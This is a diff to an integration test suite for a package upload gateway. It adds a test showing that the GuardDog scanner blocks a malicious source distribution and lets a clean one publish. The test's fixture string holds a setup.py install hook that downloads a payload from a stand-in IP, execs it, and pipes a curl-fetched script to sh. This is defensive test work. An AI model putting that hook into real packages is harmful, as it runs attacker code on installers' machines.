@@ -6,7 +6,10 @@ from __future__ import annotations
 
 import asyncio
 import json
+import os
+import shutil
 import signal
+import subprocess
 import sys
 import time
 from pathlib import Path
@@ -19,7 +22,7 @@ from gateway.app import create_app
 from gateway.devstack import Server
 from gateway.settings import Settings
 from tests.conftest import ALICE
-from tests.distributions import build_wheel, sha256_of
+from tests.distributions import build_sdist, build_wheel, sha256_of
 from tests.integration.conftest import META, Api, index_files, problem
 from tests.integration.replicas import (
     HEADERS,
@@ -185,3 +188,71 @@ async def test_a_review_running_when_its_gateway_is_killed_is_finished_by_anothe
         if first.process.poll() is None:
             first.process.kill()
     assert await index_files(pypiserver, project_name) == {wheel.name: sha256_of(wheel)}
+
+
+# What GuardDog's rules look for in an sdist: a setup.py that downloads code and runs it.
+MALICIOUS_SETUP = b"""import base64, os, urllib.request
+from setuptools import setup
+from setuptools.command.install import install
+
+class Post(install):
+    def run(self):
+        code = urllib.request.urlopen("http://203.0.113.7/payload.py").read()
+        exec(base64.b64decode(code))
+        os.system("curl -s http://203.0.113.7/x.sh | sh")
+        install.run(self)
+
+setup(cmdclass={"install": Post})
+"""
+
+
+@pytest.fixture(scope="session")
+def guarddog() -> str:
+    """GuardDog from PyPI, in a virtualenv of its own: its pins (a newer botocore among them)
+    do not fit beside the gateway's aiobotocore. It scans offline; its typosquatting lists,
+    which it would download, are not needed for these rules."""
+    found = os.environ.get("GUARDDOG") or shutil.which("guarddog")
+    if found:
+        return found
+    home = Path.home() / ".cache" / "upload-gateway-tests" / "guarddog"
+    program = home / "bin" / "guarddog"
+    if not program.exists():
+        subprocess.run([sys.executable, "-m", "venv", str(home)], check=True)
+        pip = [str(home / "bin" / "pip"), "install", "-q", "guarddog"]
+        installed = subprocess.run(pip, capture_output=True, text=True, timeout=900)
+        if installed.returncode != 0:
+            pytest.skip(f"GuardDog does not install here: {installed.stderr[-500:]}")
+    return str(program)
+
+
+async def test_guarddog_flags_a_download_and_execute_sdist_and_passes_a_clean_one(  # type: ignore[no-untyped-def]
+    aiohttp_client,
+    make_settings,
+    guarddog: str,
+    pypiserver: Server,
+    project_name: str,
+    tmp_path: Path,
+) -> None:
+    command = [guarddog, "pypi", "scan", "--exit-non-zero-on-finding", "{file}"]
+    settings: Settings = make_settings(
+        policy={"projects": [{"match": project_name, "review": command}], "review_timeout": 120}
+    )
+    api = Api(await aiohttp_client(create_app(settings, run_sweeper=False)), settings, "")
+    api.authorization = ALICE.authorization
+    (tmp_path / "bad").mkdir()
+    (tmp_path / "good").mkdir()
+    bad = build_sdist(tmp_path / "bad", project_name, "1.0", members={"setup.py": MALICIOUS_SETUP})
+    good = build_sdist(tmp_path / "good", project_name, "1.0")
+    session = await api.create_session(project_name)
+
+    await api.upload(session, bad)
+    status = await wait_for(api, session, {"error", "open"})
+    assert status["status"] == "error", status
+    assert any("download-and-execute" in notice for notice in status["notices"]), status
+
+    await api.upload(session, good)
+    status = await wait_for(api, session, {"open"})
+    assert status["status"] == "open", status
+    published = await api.post_json(session["links"]["publish"], {"meta": META})
+    assert published.status == 201, await published.text()
+    assert await index_files(pypiserver, project_name) == {good.name: sha256_of(good)}
